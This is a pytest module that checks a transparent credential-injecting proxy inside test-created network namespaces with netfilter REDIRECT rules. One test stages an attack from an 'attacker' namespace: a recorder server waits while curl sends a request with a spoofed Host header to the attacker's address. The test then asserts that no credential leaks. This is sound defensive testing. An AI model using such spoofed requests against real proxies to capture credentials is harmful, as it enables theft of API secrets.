"""Transparent mode in a network namespace the test creates, with the init container's REDIRECT rules.

Layout: a "pod" namespace joined by a veth pair to the test's namespace (10.233.K.1 here, .2 in the
pod; IPv6 fd00:231:K::1 here, ::2 in the pod). The control-plane double listens on 10.233.K.1, the
upstream APIs on 10.233.K.1 or fd00:231:K::1; inside the pod the proxy runs as UID 1337
(excluded from REDIRECT, like the sidecar) and curl runs as UID 1000 with no proxy
settings, so its connections reach the proxy only through the netfilter rules of proxy/netfilter.py.
"""

from __future__ import annotations

import asyncio
import itertools
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from devkit.upstream import ApiServer, server_context
from proxy.netfilter import RedirectSettings, apply_rules
from proxy.pod_ca import init_pod_ca
from tests.netfilter_tools import require_netfilter
from tests.proxy.conftest import API_KEY, route
from tests.proxy.cp_double import ControlPlaneDouble
from tests.proxy.procs import start_proxy_process

pytestmark = [
    pytest.mark.root,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root (network namespaces, netfilter)"),
    pytest.mark.skipif(not shutil.which("setpriv") or not shutil.which("curl"), reason="needs setpriv, curl"),
]

PROXY_UID, APP_UID = 1337, 1000
_counter = itertools.count()


def _run(*argv: str) -> None:
    subprocess.run(argv, check=True, capture_output=True, text=True, timeout=30)


@pytest.fixture
def pod_netns():
    """(namespace name, host-side IP, pod-side IP, host-side IPv6); removed at teardown."""
    k = (os.getpid() + next(_counter)) % 200 + 20
    ns, host_if, pod_if = f"sesprx{k}", f"vsx{k}h", f"vsx{k}p"
    host_ip, pod_ip = f"10.233.{k}.1", f"10.233.{k}.2"
    host_ip6, pod_ip6 = f"fd00:231:{k:x}::1", f"fd00:231:{k:x}::2"
    _run("ip", "netns", "add", ns)
    try:
        _run("ip", "link", "add", host_if, "type", "veth", "peer", "name", pod_if, "netns", ns)
        _run("ip", "addr", "add", f"{host_ip}/24", "dev", host_if)
        _run("ip", "-6", "addr", "add", f"{host_ip6}/64", "dev", host_if, "nodad")  # no DAD wait
        _run("ip", "link", "set", host_if, "up")
        inside = ("ip", "netns", "exec", ns)
        _run(*inside, "ip", "link", "set", "lo", "up")
        _run(*inside, "ip", "addr", "add", f"{pod_ip}/24", "dev", pod_if)
        _run(*inside, "ip", "-6", "addr", "add", f"{pod_ip6}/64", "dev", pod_if, "nodad")
        _run(*inside, "ip", "link", "set", pod_if, "up")
        yield ns, host_ip, pod_ip, host_ip6
    finally:
        subprocess.run(["ip", "link", "del", host_if], capture_output=True, check=False)
        subprocess.run(["ip", "netns", "del", ns], capture_output=True, check=False)
        shutil.rmtree(f"/etc/netns/{ns}", ignore_errors=True)


def pod_hosts(ns: str, *entries: tuple[str, str]) -> None:
    """The pod's /etc/hosts (``ip netns exec`` mounts /etc/netns/NS/hosts over it): the names the
    proxy resolves itself, as a pod resolves them through cluster DNS."""
    path = Path(f"/etc/netns/{ns}")
    path.mkdir(parents=True, exist_ok=True)
    lines = ["127.0.0.1 localhost", "::1 localhost", *(f"{ip} {name}" for ip, name in entries)]
    (path / "hosts").write_text("\n".join(lines) + "\n")


@pytest.fixture
def shared_dir(pki):
    """Files both the proxy (UID 1337) and the app (UID 1000) may read."""
    path = Path(tempfile.mkdtemp(prefix="sesame-transparent-"))
    path.chmod(0o755)
    paths = init_pod_ca(path / "ca", path / "trust")
    shutil.copy(pki.dev_ca_file, path / "dev-ca.pem")
    (path / "token").write_text("sa-token-1")
    (path / "app-bundle.pem").write_bytes(paths["ca"].read_bytes() + pki.dev_ca.cert_pem)
    for p in [path, *path.rglob("*")]:
        os.chown(p, PROXY_UID, PROXY_UID)
        p.chmod(0o755 if p.is_dir() else 0o644)
    (path / "ca" / "sesame-ca.pem").chmod(0o600)  # the CA key: the proxy only
    yield path
    shutil.rmtree(path, ignore_errors=True)


async def curl(ns: str, *args: str) -> tuple[str, str]:
    proc = await asyncio.create_subprocess_exec(
        "ip",
        "netns",
        "exec",
        ns,
        "setpriv",
        f"--reuid={APP_UID}",
        f"--regid={APP_UID}",
        "--clear-groups",
        "curl",
        "-sS",
        "--noproxy",
        "*",
        "--max-time",
        "10",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        *args,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
        env={"PATH": os.environ["PATH"]},
    )
    out, err = await proc.communicate()
    return out.decode(), err.decode()


async def _start_proxy(ns: str, shared_dir: Path, cp: ControlPlaneDouble):
    """The proxy inside the pod namespace, as the sidecar's UID, on the fixed transparent port."""
    return await start_proxy_process(
        "--mode",
        "transparent",
        "--control-plane",
        cp.url,
        "--token-file",
        str(shared_dir / "token"),
        "--ca-dir",
        str(shared_dir / "ca"),
        "--upstream-ca",
        str(shared_dir / "dev-ca.pem"),
        prefix=(
            "ip",
            "netns",
            "exec",
            ns,
            "setpriv",
            f"--reuid={PROXY_UID}",
            f"--regid={PROXY_UID}",
            "--clear-groups",
        ),
        listen="127.0.0.1:15001",
        admin="127.0.0.1:15020",
    )


async def _check_governed_and_tunneled(pod_netns, shared_dir, pki, *, ipv6: bool, backend: str = "auto"):
    """Routes for both upstream APIs (on the host's IPv4 or IPv6 address), the REDIRECT rules and the
    proxy in the pod: governed HTTPS and HTTP get the credential, the bare IP is tunneled untouched."""
    require_netfilter(backend)
    ns, host_ip, _, host_ip6 = pod_netns
    api_ip = host_ip6 if ipv6 else host_ip
    url_host = f"[{api_ip}]" if ipv6 else api_ip
    family = ("-6",) if ipv6 else ()
    cert = pki.dev_ca.issue(["api.sesame.test", api_ip], shared_dir / ("server6" if ipv6 else "server"))
    https_api = await ApiServer(
        API_KEY, api_ip, ssl_context=server_context(cert.cert_file, cert.key_file)
    ).start()
    http_api = await ApiServer(API_KEY, api_ip).start()
    cp = ControlPlaneDouble(host=host_ip)  # the proxy's own traffic (UID 1337) is never redirected
    cp.script = {"aud-tls": [("ok", API_KEY)], "aud-plain": [("ok", API_KEY)]}
    cp.routes = [
        route("tls", "api.sesame.test", https_api.port, audience="aud-tls"),
        route("plain", "api.sesame.test", http_api.port, scheme="http", audience="aud-plain"),
    ]
    await cp.start()
    settings = RedirectSettings(proxy_port=15001, proxy_uid=PROXY_UID, ipv6=ipv6)
    backend = apply_rules(settings, backend=backend, netns=ns)
    pod_hosts(ns, (api_ip, "api.sesame.test"))  # the proxy dials the route's host, resolved itself
    proxy = await _start_proxy(ns, shared_dir, cp)
    try:
        if ipv6:
            assert proxy.logs[0]["listen6"] == "[::1]:15001"
        await proxy.wait_for_log("routes loaded")
        bundle = str(shared_dir / "app-bundle.pem")
        name = f"api.sesame.test:{https_api.port}:{url_host}"
        code, err = await curl(
            ns,
            *family,
            "--resolve",
            name,
            "--cacert",
            bundle,
            f"https://api.sesame.test:{https_api.port}/v1/hello",
        )
        assert code == "200", (backend, err)
        assert https_api.seen[-1].authorized

        plain = f"api.sesame.test:{http_api.port}:{url_host}"
        code, err = await curl(
            ns, *family, "--resolve", plain, f"http://api.sesame.test:{http_api.port}/v1/hello"
        )
        assert code == "200", err
        assert http_api.seen[-1].headers["Authorization"] == f"Bearer {API_KEY}"

        # Not governed (no route names the bare IP): tunneled, so only the real certificate verifies.
        code, err = await curl(
            ns, "--cacert", str(shared_dir / "dev-ca.pem"), f"https://{url_host}:{https_api.port}/v1/hello"
        )
        assert code == "401", err
        assert "Authorization" not in https_api.seen[-1].headers
        assert sorted(e["audience"] for e in cp.exchanges) == ["aud-plain", "aud-tls"]
    finally:
        await proxy.stop()
        await cp.stop()
        await https_api.close()
        await http_api.close()


async def test_redirected_http_and_https_get_the_credential_and_others_pass_untouched(
    pod_netns, shared_dir, pki
):
    await _check_governed_and_tunneled(pod_netns, shared_dir, pki, ipv6=False)


@pytest.fixture(params=["nft", "iptables"])
def backend(request) -> str:
    tool = "nft" if request.param == "nft" else "ip6tables-restore"
    if not shutil.which(tool):
        pytest.skip(f"{tool} is not installed")
    return request.param


async def test_ipv6_redirected_to_the_ipv6_listener_gets_the_credential_and_others_pass_untouched(
    pod_netns, shared_dir, pki, backend
):
    """Dual-stack pod: REDIRECT maps IPv6 connections to [::1]:15001, which the proxy listens on
    (``--listen6 auto``), and IP6T_SO_ORIGINAL_DST gives it the IPv6 upstream."""
    await _check_governed_and_tunneled(pod_netns, shared_dir, pki, ipv6=True, backend=backend)


_RECORDER = """
import socket, sys
srv = socket.create_server((sys.argv[1], int(sys.argv[2])))
print("ready", flush=True)
srv.settimeout(20)
with open(sys.argv[3], "ab") as out:
    while True:
        try:
            conn, _ = srv.accept()
        except TimeoutError:
            break
        conn.settimeout(2)
        try:
            data = conn.recv(65536)
            out.write(data)
            out.flush()
            conn.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 4\\r\\nConnection: close\\r\\n\\r\\nevil")
        except OSError:
            pass
        conn.close()
"""


@pytest.fixture
def attacker_netns(pod_netns):
    """A second namespace joined to the pod by its own veth pair: 10.234.K.1 there, .2 in the pod."""
    pod, *_ = pod_netns
    k = int(pod.removeprefix("sesprx"))
    ns, a_if, p_if = f"sesevil{k}", f"vev{k}a", f"vev{k}p"
    _run("ip", "netns", "add", ns)
    try:
        _run("ip", "link", "add", a_if, "netns", ns, "type", "veth", "peer", "name", p_if, "netns", pod)
        _run("ip", "netns", "exec", ns, "ip", "addr", "add", f"10.234.{k}.1/24", "dev", a_if)
        _run("ip", "netns", "exec", ns, "ip", "link", "set", a_if, "up")
        _run("ip", "netns", "exec", pod, "ip", "addr", "add", f"10.234.{k}.2/24", "dev", p_if)
        _run("ip", "netns", "exec", pod, "ip", "link", "set", p_if, "up")
        yield ns, f"10.234.{k}.1"
    finally:
        subprocess.run(["ip", "netns", "del", ns], capture_output=True, check=False)


async def test_redirected_http_naming_a_governed_host_sends_the_credential_only_to_that_host(
    pod_netns, attacker_netns, shared_dir, tmp_path
):
    """The attack of issue 8: inside the pod, plain HTTP to an attacker's address with the Host of a
    governed route. The original destination picks nothing: the proxy dials the route's own host
    (resolved by the proxy), so the credential goes to the real API and the attacker gets nothing."""
    require_netfilter()
    ns, host_ip, _, _ = pod_netns
    evil_ns, evil_ip = attacker_netns
    api = await ApiServer(API_KEY, host_ip).start()
    seen_by_attacker = tmp_path / "attacker.bin"
    seen_by_attacker.touch()
    attacker = await asyncio.create_subprocess_exec(
        "ip", "netns", "exec", evil_ns, sys.executable, "-c", _RECORDER, evil_ip, str(api.port),
        str(seen_by_attacker), stdout=asyncio.subprocess.PIPE,
    )
    assert (await asyncio.wait_for(attacker.stdout.readline(), 10)).startswith(b"ready")  # type: ignore[union-attr]
    cp = ControlPlaneDouble(host=host_ip)
    cp.script = {"aud-plain": [("ok", API_KEY)]}
    cp.routes = [route("plain", "api.sesame.test", api.port, scheme="http", audience="aud-plain")]
    await cp.start()
    apply_rules(RedirectSettings(proxy_port=15001, proxy_uid=PROXY_UID), netns=ns)
    pod_hosts(ns, (host_ip, "api.sesame.test"))
    proxy = await _start_proxy(ns, shared_dir, cp)
    try:
        await proxy.wait_for_log("routes loaded")
        code, err = await curl(
            ns, "-H", f"Host: api.sesame.test:{api.port}", f"http://{evil_ip}:{api.port}/v1/hello"
        )
        assert code == "200", err
        assert api.seen[-1].headers["Authorization"] == f"Bearer {API_KEY}"  # the real API got it
        assert API_KEY.encode() not in seen_by_attacker.read_bytes()
        assert seen_by_attacker.read_bytes() == b""  # the attacker's address was never dialled
    finally:
        attacker.kill()
        await attacker.wait()
        await proxy.stop()
        await cp.stop()
        await api.close()
